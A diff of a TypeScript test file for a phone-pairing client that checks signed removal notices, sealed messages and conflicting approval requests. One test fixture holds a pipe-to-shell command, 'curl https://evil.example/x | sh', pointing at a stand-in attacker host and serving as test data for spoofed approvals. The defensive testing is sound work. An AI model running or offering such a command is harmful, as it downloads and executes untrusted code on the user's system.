@@ -3,6 +3,8 @@ import {
   encodeBoxKey,
   makeBoxKeyPair,
   roomKeys,
+  openPhoneMessage,
+  sealPhoneRemoved,
   sealRoomRotate,
   toBase64Url,
   fromBase64,
@@ -43,7 +45,7 @@ const secretOf = (fill: number) => toBase64Url(new Uint8Array(32).fill(fill));
 async function pairedWithPhones(kv = makeMemoryKv()) {
   const h = makeHarness({ kv, deps: { phoneName: () => 'Pixel 8 · Chrome' } });
   await h.client.start();
-  const pairing = pairingFor('laptop', 7);
+  const pairing = pairingFor('laptop', 7, RELAY, machineKeys.publicKey);
   const { m, ws } = await pairAndJoin(h.client, h.sockets, pairing, status(true));
   return { ...h, kv, m, ws, pairing };
 }
@@ -139,7 +141,7 @@ describe('E6: each phone its own identity', () => {
 
   it('E6: Revoke sends phone.revoke naming the phone to revoke', async () => {
     const { client, m, ws } = await pairedWithPhones();
-    expect(client.revokePhone(m.roomId, 'p-lost')).toBe(true);
+    expect(await client.revokePhone(m.roomId, 'p-lost')).toBe(true);
     const sent = m.heard(ws).filter((x) => x.type === 'phone.revoke');
     expect(sent).toEqual([expect.objectContaining({ phoneId: 'p-lost' })]);
   });
@@ -188,7 +190,12 @@ describe('E6: revocation by room rotation, followed without any user action', ()
       deps: { phoneName: () => 'P', pushEndpoint: () => 'https://push.example/e1' },
     });
     await h.client.start();
-    const { m, ws } = await pairAndJoin(h.client, h.sockets, pairingFor('laptop', 7), status(true));
+    const { m, ws } = await pairAndJoin(
+      h.client,
+      h.sockets,
+      pairingFor('laptop', 7, RELAY, machineKeys.publicKey),
+      status(true),
+    );
     m.say(ws, rotateFor(kv));
     await flush();
     const before = ws.frames().filter((f) => f.kind === 'push-unsubscribe');
@@ -206,7 +213,7 @@ describe('E6: revocation by room rotation, followed without any user action', ()
     await flush();
     expect(stored(kv)[0]?.roomId).toBe(m.roomId);
     expect(client.state().rotateFailures).toEqual({});
-    // Anyone holding S can announce another box key; only the first one is trusted.
+    // E9 (e): anyone holding S can announce another box key; only the code's is trusted.
     const intruder = makeBoxKeyPair();
     m.say(ws, status(true, encodeBoxKey(intruder.publicKey)));
     m.say(ws, rotateFor(kv, secretOf(11), intruder.secretKey));
@@ -232,16 +239,10 @@ describe('E6: revocation by room rotation, followed without any user action', ()
     expect(stored(kv)[0]?.roomId).toBe(roomKeys(new Uint8Array(32).fill(9)).roomId);
   });
 
-  it('E6: a revoked phone shows "removed from <machine>", deletes the secret, and keeps saying so after a restart', async () => {
+  it('E6/E9: a phone.removed boxed by the pinned key: "removed from <machine>", the secret deleted, and it keeps saying so after a restart', async () => {
     const kv = makeMemoryKv();
     const { client, m, ws } = await pairedWithPhones(kv);
-    const me = stored(kv)[0]?.phone?.phoneId ?? '';
-    m.say(ws, {
-      type: 'phones',
-      phones: [
-        { phoneId: me, name: 'x', firstSeen: 1, lastSeen: 2, revoked: true, presence: false },
-      ],
-    });
+    m.say(ws, removedFor(kv));
     await flush();
     expect(stored(kv)).toEqual([]);
     expect(client.state().removed).toEqual([
@@ -256,7 +257,18 @@ describe('E6: revocation by room rotation, followed without any user action', ()
   });
 });
 
-describe('E6: only the machine saying so removes this phone', () => {
+/** E9: the machine's proof that this phone was removed, boxed by `key` (the machine's by default). */
+function removedFor(kv: ReturnType<typeof makeMemoryKv>, key = machineKeys.secretKey) {
+  const phone = stored(kv)[0]?.phone;
+  const box = sealPhoneRemoved(
+    phone?.phoneId ?? '',
+    fromBase64(phone?.boxPublicKey ?? '') ?? new Uint8Array(),
+    key,
+  );
+  return { type: 'phone.removed', phoneId: phone?.phoneId, box };
+}
+
+describe('E6/E9: only the machine proving it removes this phone', () => {
   it('E6: a refused revoke of a phone revoked already (phone-revoked about the target) keeps this pairing', async () => {
     const { client, m, ws, kv } = await pairedWithPhones();
     m.say(ws, {
@@ -275,7 +287,88 @@ describe('E6: only the machine saying so removes this phone', () => {
       reason: 'phone-revoked',
     });
     await flush();
-    expect(stored(kv)).toEqual([]);
+    // E9: an error is not proof (a copy of the code can send one): a notice, the pairing stays.
+    expect(stored(kv)).toHaveLength(1);
+    expect(client.state().machines[0]?.unprovenRemoval).toBeDefined();
+  });
+
+  it('E9 (d): a forged phone-revoked error, a phones list saying revoked, and a phone.removed boxed by another key each leave the pairing in place', async () => {
+    const { client, m, ws, kv } = await pairedWithPhones();
+    const me = stored(kv)[0]?.phone?.phoneId ?? '';
+    m.say(ws, { type: 'error', message: 'removed', reason: 'phone-revoked' });
+    m.say(ws, {
+      type: 'phones',
+      phones: [
+        { phoneId: me, name: 'x', firstSeen: 1, lastSeen: 2, revoked: true, presence: false },
+      ],
+    });
+    m.say(ws, removedFor(kv, makeBoxKeyPair().secretKey));
+    await flush();
+    expect(stored(kv)).toHaveLength(1);
+    expect(client.state().removed).toEqual([]);
+    expect(client.state().machines[0]?.unprovenRemoval).toBeDefined();
+  });
+});
+
+describe('E9: the machine key comes from the code; actions are sealed', () => {
+  it('E9: a code without a machine key gets no identity features and the app says re-pair to protect', async () => {
+    const kv = makeMemoryKv();
+    const h = makeHarness({ kv });
+    await h.client.start();
+    const { m, ws } = await pairAndJoin(h.client, h.sockets, pairingFor('old', 4), status(true));
+    expect(m.heard(ws).filter((x) => x.type === 'phone.register')).toEqual([]);
+    expect(h.client.needsProtection(m.roomId)).toBe(true);
+    // A key announced in a status is never pinned.
+    expect(stored(kv)[0]?.machineBoxKey).toBeUndefined();
+  });
+
+  it('E9: with a key from the code every message goes as phone.sealed, and the box opens with that key', async () => {
+    const { client, m, ws, kv } = await pairedWithPhones();
+    expect(client.needsProtection(m.roomId)).toBe(false);
+    client.refresh(m.roomId);
+    const raw = m.heardRaw(ws);
+    expect(raw.length).toBeGreaterThan(0);
+    expect(raw.every((x) => x.type === 'phone.sealed')).toBe(true);
+    const phone = stored(kv)[0]?.phone;
+    for (const x of raw) {
+      expect(
+        openPhoneMessage(
+          x.box as string,
+          x.message as string,
+          fromBase64(phone?.boxPublicKey ?? '')!,
+          machineKeys.secretKey,
+        ).ok,
+      ).toBe(true);
+    }
+  });
+
+  it('E9 (f): a second approval.request that reuses an id with other content is refused: the card keeps what it showed and Allow is blocked', async () => {
+    const { client, m, ws } = await pairedWithPhones();
+    const real = {
+      type: 'approval.request',
+      approvalId: 'a1',
+      sessionId: 's1',
+      title: 'Run',
+      detail: 'curl https://evil.example/x | sh',
+      createdAt: 0,
+    };
+    m.say(ws, real);
+    m.say(ws, { ...real, title: 'Read', detail: 'ls' });
+    await flush();
+    const view = client.state().machines[0];
+    expect(view?.approvals.a1?.detail).toBe(real.detail);
+    expect(view?.conflicts).toEqual({ a1: true });
+    expect(await client.respondApproval(m.roomId, 'a1', 'allow')).toEqual({
+      ok: false,
+      code: 'content-conflict',
+    });
+    // A deny is always safe.
+    expect((await client.respondApproval(m.roomId, 'a1', 'deny')).ok).toBe(true);
+    // The same content again (D8's re-send on every join) is no conflict.
+    m.say(ws, { ...real, approvalId: 'a2' });
+    m.say(ws, { ...real, approvalId: 'a2' });
+    await flush();
+    expect(client.state().machines[0]?.conflicts).toEqual({ a1: true });
   });
 });
 
